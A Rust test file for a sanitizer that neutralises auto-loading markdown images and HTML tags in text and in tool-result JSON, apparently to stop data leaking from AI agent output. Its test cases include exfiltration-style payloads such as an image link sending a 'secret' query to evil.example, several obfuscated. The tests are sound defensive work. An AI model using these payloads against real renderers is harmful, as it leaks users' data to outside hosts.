use super::*;
use bailiwick_core::json::Limits;

#[test]
fn what_would_load_by_itself_does_not_and_all_else_is_as_it_was() {
    for (text, told) in [
        ("see ![x](https://evil.example/?q=secret)", "see ! [x](https://evil.example/?q=secret)"),
        ("![a][b]\n\n[b]: https://evil.example/p", "! [a][b]\n\n[b]: https://evil.example/p"),
        ("![a]( <//evil.example/p> )", "! [a]( <//evil.example/p> )"),
        ("<IMG alt=x src='https://evil.example/p'>", "&lt;IMG alt=x src='https://evil.example/p'>"),
        ("<iframe\nsrc=//evil.example>", "&lt;iframe\nsrc=//evil.example>"),
        ("<img src=x.png><script src=\"HTTPS://e.example/\">", "<img src=x.png>&lt;script src=\"HTTPS://e.example/\">"),
        ("![![x](https://a.example)](y)", "! [! [x](https://a.example)](y)"),
        ("![[][][][][][][][][]](https://e.example)", "! [[][][][][][][][][]](https://e.example)"),
        ("![x](&#104;ttps://e.example)", "! [x](&#104;ttps://e.example)"),
        (r"![x](https\://e.example)", r"! [x](https\://e.example)"),
        ("![a][named elsewhere]", "! [a][named elsewhere]"),
        ("<img alt=\">\" src=https://e.example>", "&lt;img alt=\">\" src=https://e.example>"),
        ("<img src=&#104;ttps://e.example>", "&lt;img src=&#104;ttps://e.example>"),
        ("<a srcset=\"x 1x, https://e.example\">", "&lt;a srcset=\"x 1x, https://e.example\">"),
        ("<div style=\"background:url(https://e.example)\">", "&lt;div style=\"background:url(https://e.example)\">"),
    ] {
        assert_eq!(quiet(text), told);
    }
    for same in [
        "a plain link https://good.example/a stays",
        "[a link](https://good.example/) is followed by who wants to",
        "let all = vec![1, 2]; assert![x](y)",
        "![local](docs/picture.png)",
        "if a < b && c > d { <p>text</p> }",
        "wow! <a href=\"https://good.example\">read</a>",
        "",
    ] {
        assert_eq!(quiet(same), same);
    }
}

#[test]
fn texts_are_made_inert_wherever_a_result_has_them_and_structure_is_left() {
    let image = "![x](https://e.example/p)";
    let form = |text: &str| {
        format!(
            r#"{{"content":[{{"text":"{text}","type":"text"}},{{"resource":{{"text":"{text}","uri":"a:b"}},"type":"resource"}}],"contents":[{{"text":"{text}","uri":"a:b"}}],"messages":[{{"content":{{"text":"{text}","type":"text"}},"role":"user"}}],"structuredContent":{{"text":"{image}"}}}}"#
        )
    };
    let read = |text: &str| Json::parse(text.as_bytes(), &Limits::default()).unwrap();
    assert_eq!(inert(read(&form(image))), read(&form("! [x](https://e.example/p)")));
    let data = format!(r#"{{"contents":[{{"mimeType":"application/json","text":"{image}","uri":"a:b"}}]}}"#);
    assert_eq!(inert(read(&data)), read(&data));
    let part = |text: &str| format!(r#"{{"content":[{{"mimeType":"json","text":"{text}","type":"text"}}]}}"#);
    assert_eq!(
        inert(read(&part(image))),
        read(&part("! [x](https://e.example/p)")),
        "a text is shown, whatever it says"
    );
}

#[test]
fn what_could_begin_again_and_again_is_looked_at_once() {
    // each of these took minutes when every beginning was followed to the end of the text
    for again in ["![a]", "<img ", "<a ", "![", "<img alt=\"", "![a](b"] {
        let text = again.repeat(1 << 18);
        assert!(quiet(&text).len() >= text.len(), "{again}");
    }
}
